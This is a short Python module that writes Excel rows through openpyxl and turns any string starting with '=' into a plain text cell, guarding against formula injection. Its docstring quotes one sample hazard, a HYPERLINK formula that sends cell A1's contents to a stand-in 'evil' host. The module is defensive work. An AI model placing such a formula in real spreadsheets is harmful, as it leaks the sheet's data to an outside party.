"""Writing Excel sheets whose text stays text.

openpyxl stores a string that starts with "=" as a formula: a hazard titled
`=HYPERLINK("http://evil/?"&A1,"click")` would become a live formula in the officers' sheet.
Every export appends its rows through `text_safe`, which keeps such strings as plain text.
"""

from openpyxl.cell import WriteOnlyCell


def text_safe(sheet, values) -> list:
    """`values` for `sheet.append`, with every string that would be a formula made a text cell
    (in write-only and ordinary sheets alike)."""
    row = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
